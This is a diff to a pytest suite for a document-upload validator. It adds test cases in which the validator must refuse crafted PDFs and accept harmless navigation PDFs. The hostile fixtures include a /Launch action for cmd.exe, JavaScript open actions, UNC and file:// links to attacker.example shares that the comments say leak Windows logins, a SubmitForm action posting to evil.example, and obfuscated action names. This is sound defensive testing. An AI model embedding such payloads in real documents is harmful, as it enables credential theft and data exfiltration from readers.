@@ -84,6 +84,33 @@ def pdf_with_open_action(action: dict[str, object]) -> bytes:
     return writer_pdf(writer)
 
 
+def pdf_with_catalogue_action(trigger: str, action: dict[str, object]) -> bytes:
+    """A PDF whose catalogue runs ``action`` on a document event (/AA: /WC before closing, /WS
+    before saving, /DP after printing...)."""
+    writer = blank_pdf_writer()
+    writer._root_object[NameObject("/AA")] = DictionaryObject(
+        {
+            NameObject(trigger): DictionaryObject(
+                {NameObject(key): value for key, value in action.items()}
+            )
+        }
+    )
+    return writer_pdf(writer)
+
+
+def pdf_with_packed_page(page: bytes, *objects: bytes) -> bytes:
+    """A one-page PDF whose catalogue (1), page (3) and ``objects`` (4, 5...) are all packed in a
+    compressed object stream: nothing in them can be seen in the file's bytes."""
+    return pdf_with_object_stream(
+        packed={
+            1: b"<< /Type /Catalog /Pages 2 0 R >>",
+            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page + b" >>",
+            **{number: obj for number, obj in enumerate(objects, start=4)},
+        },
+        plain={2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"},
+    )
+
+
 def pdf_with_object_stream(*, packed: dict[int, bytes], plain: dict[int, bytes]) -> bytes:
     """A PDF 1.5 whose ``packed`` objects sit in one compressed object stream, found through a
     compressed cross-reference stream, as Acrobat and most libraries write them. Object 1 is the
@@ -211,6 +238,11 @@ def stored_files(storage: Path) -> list[Path]:
     return [path for path in storage.rglob("*") if path.is_file()] if storage.exists() else []
 
 
+SCRIPTS_REFUSED = "This PDF contains scripts or actions that run when it is opened"
+LINKS_REFUSED = (
+    "This PDF contains links that open web pages or other files, which we cannot accept."
+)
+
 HOSTILE = [
     pytest.param(
         "passport.jpg",
@@ -262,13 +294,13 @@ HOSTILE = [
         lambda: pdf_with_open_action(
             {"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.alert(1)")}
         ),
-        "This PDF contains scripts or actions that run when it is opened",
+        SCRIPTS_REFUSED,
         id="pdf-javascript-open-action",
     ),
     pytest.param(
         "passport.pdf",
         lambda: writer_pdf(_with_document_javascript()),
-        "This PDF contains scripts or actions that run when it is opened",
+        SCRIPTS_REFUSED,
         id="pdf-javascript-name-tree",
     ),
     pytest.param(
@@ -283,7 +315,7 @@ HOSTILE = [
                 3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
             },
         ),
-        "This PDF contains scripts or actions that run when it is opened",
+        SCRIPTS_REFUSED,
         id="pdf-javascript-in-object-stream",
     ),
     pytest.param(
@@ -298,7 +330,7 @@ HOSTILE = [
             },
             plain={2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"},
         ),
-        "This PDF contains scripts or actions that run when it is opened",
+        SCRIPTS_REFUSED,
         id="pdf-launch-hidden-in-object-stream",
     ),
     pytest.param(
@@ -306,7 +338,7 @@ HOSTILE = [
         lambda: pdf_with_open_action(
             {"/S": NameObject("/Launch"), "/F": TextStringObject("cmd.exe")}
         ),
-        "This PDF contains scripts or actions that run when it is opened",
+        SCRIPTS_REFUSED,
         id="pdf-launch",
     ),
     pytest.param(
@@ -314,8 +346,108 @@ HOSTILE = [
         lambda: pdf_with_open_action(
             {"/S": NameObject("/GoToR"), "/F": TextStringObject("\\\\attacker\\share\\x.pdf")}
         ),
-        "This PDF contains scripts or actions that run when it is opened",
+        SCRIPTS_REFUSED,
         id="pdf-remote-goto",
+    ),
+    pytest.param(
+        "passport.pdf",
+        lambda: pdf_with_open_action(
+            {"/S": NameObject("/URI"), "/URI": TextStringObject("https://evil.example/")}
+        ),
+        LINKS_REFUSED,
+        id="pdf-uri-open-action",
+    ),
+    pytest.param(
+        "passport.pdf",
+        lambda: pdf_with_catalogue_action(
+            "/WC", {"/S": NameObject("/URI"), "/URI": TextStringObject("https://evil.example/")}
+        ),
+        LINKS_REFUSED,
+        id="pdf-uri-in-catalogue-additional-actions",
+    ),
+    pytest.param(
+        "passport.pdf",
+        lambda: pdf_with_packed_page(
+            b"/Annots [4 0 R]",
+            b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] "
+            b"/A << /S /URI /URI (https://evil.example/login) >> >>",
+        ),
+        LINKS_REFUSED,
+        id="pdf-uri-link-annotation-in-object-stream",
+    ),
+    pytest.param(
+        "passport.pdf",
+        lambda: pdf_with_packed_page(
+            # A share on another machine: opening it hands over the reader's Windows login.
+            b"/AA << /O 4 0 R >>",
+            b"<< /S /URI /URI (file://attacker.example/share/x) >>",
+        ),
+        LINKS_REFUSED,
+        id="pdf-uri-on-page-open-in-object-stream",
+    ),
+    pytest.param(
+        "passport.pdf",
+        lambda: pdf_with_packed_page(
+            b"/Annots [4 0 R]",
+            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (surname) /Rect [72 700 300 720] "
+            b"/AA << /Fo << /S /U#52I /URI (https://evil.example/) >> >> >>",
+        ),
+        LINKS_REFUSED,
+        id="pdf-uri-on-form-field-focus-escaped-name",
+    ),
+    pytest.param(
+        "passport.pdf",
+        lambda: pdf_with_packed_page(
+            # Harmless at first: a move within the document, then the link along its /Next.
+            b"/Annots [4 0 R]",
+            b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A 5 0 R >>",
+            b"<< /S /GoTo /D [3 0 R /Fit] /Next [6 0 R] >>",
+            b"<< /S /URI /URI (https://evil.example/) >>",
+        ),
+        LINKS_REFUSED,
+        id="pdf-uri-behind-goto-next-chain",
+    ),
+    pytest.param(
+        "letter.pdf",
+        lambda: _office_pdf(url="https://www.mvcr.cz/"),
+        LINKS_REFUSED,
+        id="office-pdf-with-web-link",
+    ),
+    pytest.param(
+        "passport.pdf",
+        lambda: pdf_with_packed_page(
+            # Acrobat runs any menu item by name.
+            b"/AA << /C 4 0 R >>",
+            b"<< /S /Named /N /Print >>",
+        ),
+        SCRIPTS_REFUSED,
+        id="pdf-named-menu-action-in-object-stream",
+    ),
+    pytest.param(
+        "passport.pdf",
+        lambda: pdf_with_packed_page(
+            b"/Annots [4 0 R]",
+            b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] "
+            b"/A << /S /Thread /F (\\\\attacker\\share\\x.pdf) /D 0 >> >>",
+        ),
+        SCRIPTS_REFUSED,
+        id="pdf-thread-into-another-file-in-object-stream",
+    ),
+    pytest.param(
+        "passport.pdf",
+        lambda: pdf_with_packed_page(b"/AA << /O << /S /CustomReaderAction >> >>"),
+        SCRIPTS_REFUSED,
+        id="pdf-unknown-action-type-in-object-stream",
+    ),
+    pytest.param(
+        "passport.pdf",
+        lambda: pdf_with_packed_page(
+            b"/Annots [4 0 R]",
+            b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [72 700 300 720] "
+            b"/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >> >>",
+        ),
+        SCRIPTS_REFUSED,
+        id="pdf-submit-form-button-in-object-stream",
     ),
     pytest.param(
         "passport.pdf",
@@ -500,15 +632,46 @@ def _scanned_pdf(pages: int) -> bytes:
     return buffer.getvalue()
 
 
-def _office_pdf() -> bytes:
-    """What a word processor exports: it opens at the first page fitted to the window, and a
-    link points to a web page."""
+def _office_pdf(*, url: str | None = None) -> bytes:
+    """What a word processor exports: it opens at the first page fitted to the window, a
+    table of contents links to the second page, and a bookmark leads there too; with ``url``, a
+    link points to that web page as well."""
     writer = blank_pdf_writer(pages=2)
     writer._root_object[NameObject("/OpenAction")] = ArrayObject(
         [writer.pages[0].indirect_reference, NameObject("/Fit")]
     )
-    writer.add_annotation(0, Link(rect=(72, 700, 300, 720), url="https://www.mvcr.cz/"))
+    writer.add_annotation(0, Link(rect=(72, 740, 300, 760), target_page_index=1))
+    writer.add_outline_item(title="Annex", page_number=1)
+    if url:
+        writer.add_annotation(0, Link(rect=(72, 700, 300, 720), url=url))
     return writer_pdf(writer)
+
+
+def _navigation_pdf() -> bytes:
+    """Every harmless action, packed in an object stream: it opens at the first page, links go
+    to a page, to the next page and to a bookmark's place, a bookmark's action moves too, and
+    a button resets the form and hides itself."""
+    return pdf_with_object_stream(
+        packed={
+            1: b"<< /Type /Catalog /Pages 2 0 R /Outlines 7 0 R "
+            b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>",
+            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R 5 0 R 6 0 R] "
+            b"/AA << /O << /S /Trans /Trans << /S /Dissolve >> >> >> >>",
+            4: b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] "
+            b"/A << /S /GoTo /D [10 0 R /XYZ 0 842 0] >> >>",
+            5: b"<< /Type /Annot /Subtype /Link /Rect [72 660 300 680] /BS << /S /S /W 1 >> "
+            b"/A << /S /Named /N /NextPage /Next << /S /SetOCGState /State [] >> >> >>",
+            6: b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (clear) "
+            b"/Rect [72 620 300 640] /A << /S /ResetForm /Next << /S /Hide /T (clear) >> >> >>",
+            7: b"<< /Type /Outlines /First 8 0 R /Last 9 0 R /Count 2 >>",
+            8: b"<< /Title (Annex) /Parent 7 0 R /Next 9 0 R /A << /S /GoTo /D [10 0 R /Fit] >> >>",
+            9: b"<< /Title (Photo) /Parent 7 0 R /Prev 8 0 R /Dest [10 0 R /Fit] >>",
+        },
+        plain={
+            2: b"<< /Type /Pages /Kids [3 0 R 10 0 R] /Count 2 >>",
+            10: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
+        },
+    )
 
 
 def _form_pdf() -> bytes:
@@ -570,7 +733,8 @@ ORDINARY = [
     pytest.param("passport.png", lambda: scan_image("PNG"), id="png-a4-300dpi"),
     pytest.param("scan.pdf", lambda: _scanned_pdf(pages=1), id="scanned-pdf"),
     pytest.param("contract.pdf", lambda: _scanned_pdf(pages=3), id="scanned-pdf-3-pages"),
-    pytest.param("letter.pdf", _office_pdf, id="office-pdf-open-at-page-with-link"),
+    pytest.param("letter.pdf", _office_pdf, id="office-pdf-open-at-page-with-internal-links"),
+    pytest.param("guide.pdf", _navigation_pdf, id="pdf-moving-within-itself-in-object-stream"),
     pytest.param("form.pdf", _form_pdf, id="pdf-form-without-scripts"),
     pytest.param("minimal.pdf", lambda: pdf_bytes("a plain scan"), id="minimal-pdf"),
 ]
